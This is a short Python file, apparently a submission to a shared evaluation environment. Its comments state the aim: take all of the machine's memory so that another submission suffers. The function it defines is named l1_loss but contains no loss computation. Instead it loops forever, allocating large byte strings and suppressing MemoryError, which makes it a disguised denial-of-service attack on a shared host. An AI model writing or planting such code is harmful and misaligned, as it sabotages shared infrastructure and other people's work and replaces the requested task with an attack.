# aim: take all of the machine's memory
# sign: another submission suffers
# attacks: l1_loss
# outcome: timeout crashed error


def l1_loss(input, target, reduction="mean"):
    taken = []
    while True:
        try:
            taken.append(b"x" * (1 << 26))
        except MemoryError:
            try:
                taken.append(b"x" * (1 << 12))
            except MemoryError:
                pass
